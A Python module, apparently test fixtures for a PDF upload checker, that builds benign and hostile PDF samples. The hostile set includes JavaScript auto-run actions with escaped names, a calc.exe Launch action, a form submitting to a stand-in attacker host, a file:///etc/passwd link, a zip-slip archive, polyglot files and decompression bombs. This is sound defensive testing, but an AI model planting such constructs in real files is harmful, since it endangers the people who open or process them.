"""PDF papers as people and attackers send them, written object by object."""

from __future__ import annotations

import io
import zipfile
import zlib

PAGE = b"BT /F1 24 Tf 72 720 Td (Nomor Induk Berusaha 1234000567891) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SCRIPT = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>"
AUTHOR = b"Lili Rahasia"
PLACE_NOTE = b"GPSLatitude 10.1772 S"


def stream(content: bytes, head: bytes = b"", *, packed: bool = True) -> bytes:
    """Return a stream object's body."""
    if packed:
        content, head = zlib.compress(content), head + b"/Filter/FlateDecode"
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (head, len(content), content)


def pdf(
    *extra: bytes,
    root: bytes = b"",
    page: bytes = b"",
    content: bytes | None = None,
    about: bytes = AUTHOR,
    lead: bytes = b"",
    shifted: bool = False,
) -> bytes:
    """Return a paper of one page. ``extra``: objects from 6 on; ``root``, ``page``: more entries.

    ``lead``: bytes before its first line; ``shifted``: whether its table counts them.
    """
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % root,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 %b>>>>%b>>" % (FONT, page),
        content if content is not None else stream(PAGE),
        b"<</Author(%b)/Producer(Pemindai)>>" % about,
        *extra,
    ]
    out = bytearray(lead + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    base = 0 if shifted else len(lead)
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out) - base)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out) - base
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R/Info 5 0 R>>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def with_photo(jpeg: bytes, size: tuple[int, int]) -> bytes:
    """Return a scanned page: one photo, as the scanner programs of phones make it."""
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % size
    head += b"/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode"
    photo = stream(jpeg, head, packed=False)
    draw = stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    xmp = stream(b"<x:xmpmeta>" + PLACE_NOTE + b"</x:xmpmeta>", b"/Type/Metadata/Subtype/XML")
    named = b"/XObject<</I 6 0 R>>"
    return pdf(photo, xmp, root=b"/Metadata 7 0 R", content=draw).replace(
        b"/Resources<<", b"/Resources<<" + named
    )


def archive() -> bytes:
    """Return a ZIP archive with a page inside."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("../../etc/index.html", "<script>alert(1)</script>")
    return out.getvalue()


def signed() -> bytes:
    """Return a paper with the field of an electronic signature."""
    signature = b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 10 20 30]/Contents<00>>>"
    field = b"<</FT/Sig/T(Tanda tangan)/V 6 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]>>"
    return pdf(signature, field, root=b"/AcroForm<</Fields[7 0 R]/SigFlags 3>>", about=b"OSS")


def encrypted(word: str) -> bytes:
    """Return a paper that opens with ``word``; without one it only forbids changes."""
    from pypdf import PdfReader, PdfWriter  # noqa: PLC0415 - only this one needs it

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(word, owner_password="pemilik", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def bomb(times: int) -> bytes:
    """Return a page that unpacks to 400 megabytes of nothing, packed once or twice."""
    packed = zlib.compress(bytes(400_000_000), 9)
    packed = zlib.compress(packed, 9) if times == 2 else packed
    head = b"/Filter[%b]" % (b"/FlateDecode" * times)
    return pdf(content=stream(packed, head, packed=False))


HARMLESS = {
    "plain": pdf,
    "signed": signed,
    "a blank line before it": lambda: pdf(lead=b"\r\n\r\n"),
    "a mark of byte order before it": lambda: pdf(lead=b"\xef\xbb\xbf"),
    "a printer's words before it": lambda: pdf(lead=b"\x1b%-12345X@PJL JOB\n@PJL SET RET=ON\n"),
    "a mail's head before it": lambda: pdf(lead=b"Content-Type: application/pdf; x=1\r\n\r\n"),
    "rubbish before it, counted": lambda: pdf(lead=b"rubbish\n", shifted=True),
    "blank space after it": lambda: pdf() + b"\r\n\x00\x00  \n",
    "a table that is wrong": lambda: (
        pdf().replace(b"0000000000 65535", b"0000000000 65536")[:-8] + b"9\n%%EOF\n"
    ),
    "a link to a page": lambda: pdf(
        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
        b"/A<</Type/Action/S/URI/URI(https://oss.example.test/cek?n=1)>>>>]"
    ),
    "opens at its first page": lambda: pdf(root=b"/OpenAction[3 0 R/Fit]"),
    "chapters": lambda: pdf(
        b"<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 2>>",
        b"<</Title(A)/Parent 6 0 R/Next 8 0 R/A<</S/GoTo/D[3 0 R/Fit]>>>>",
        b"<</Title(B)/Parent 6 0 R/Prev 7 0 R/Dest[3 0 R/Fit]>>",
        root=b"/Outlines 6 0 R",
    ),
    "forbids changes": lambda: encrypted(""),
    "a check sum left out": lambda: pdf(
        content=b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
        % (len(zlib.compress(PAGE)) - 4, zlib.compress(PAGE)[:-4])
    ),
}


def _action(action: bytes) -> bytes:
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<" + action + b">>>>]")


HOSTILE = {
    "a script at opening": lambda: pdf(root=b"/OpenAction" + SCRIPT),
    "a script by an escaped name": lambda: pdf(
        root=b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
    ),
    "a script by its name": lambda: pdf(
        root=b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"
    ),
    "a script when a page opens": lambda: pdf(page=b"/AA<</O" + SCRIPT + b">>"),
    "a script that nothing points at": lambda: pdf(SCRIPT),
    "a script packed away": lambda: pdf(
        stream(SCRIPT), root=b"/OpenAction<</S/Rendition/JS 6 0 R>>"
    ),
    "a script chained": lambda: _action(b"/S/GoTo/D[3 0 R/Fit]/Next" + SCRIPT),
    "a program to start": lambda: _action(b"/S/Launch/F(calc.exe)"),
    "a form that sends itself": lambda: _action(b"/S/SubmitForm/F(https://jahat.example.test)"),
    "another file to open": lambda: _action(b"/S/GoToR/F(\\\\\\\\jahat\\\\c)/D[0/Fit]"),
    "an address that is a script": lambda: _action(b"/S/URI/URI(java\\nscript:alert\\(1\\))"),
    "an address of this computer": lambda: _action(b"/S/URI/URI(file:///etc/passwd)"),
    "a form of XFA": lambda: pdf(stream(b"<xdp/>"), root=b"/AcroForm<</Fields[]/XFA 6 0 R>>"),
    "an attached file": lambda: pdf(
        b"<</Type/Filespec/F(a.html)/EF<</F 7 0 R>>>>",
        stream(b"<html>", b"/Type/EmbeddedFile"),
        root=b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>",
    ),
    "a file pinned to the page": lambda: pdf(
        page=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>]"
    ),
    "a film": lambda: pdf(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    "a page of the web before it": lambda: pdf(lead=b"<html><script>alert(1)</script>\n"),
    "a program before it": lambda: pdf(lead=b"var a=1;/*\n"),
    "a page of the web after it": lambda: pdf() + b"<script>alert(1)</script>",
    "a page of the web inside": lambda: pdf(stream(b"<html><script>x()</script>", packed=False)),
    "an archive after it": lambda: pdf() + archive(),
    "an archive before it": lambda: archive() + pdf(),
    "an archive inside": lambda: pdf(stream(archive(), packed=False)),
    "a picture's first bytes before it": lambda: pdf(lead=b"GIF89a\x01\x00\n"),
    "much after its end": lambda: pdf() + bytes(range(1, 255)) * 40,
    "cut in the middle": lambda: pdf()[:400],
    "cut at its last line": lambda: pdf()[:-12],
    "cut and closed again": lambda: pdf()[:420] + b"\nstartxref\n0\n%%EOF\n",
    "a page cut off": lambda: pdf(
        content=b"<</Filter/FlateDecode/Length 30>>stream\n%b\nendstream" % zlib.compress(PAGE)[:30]
    ),
    "a page that is noise": lambda: pdf(
        content=b"<</Filter/FlateDecode/Length 9>>stream\nxxxxxxxxx\nendstream"
    ),
    "only a first line": lambda: b"%PDF-1.7\n%%EOF\n",
    "no page": lambda: pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
    "pages in a circle": lambda: pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    "a password": lambda: encrypted("rahasia"),
    "a bomb": lambda: bomb(1),
    "a bomb packed twice": lambda: bomb(2),
}
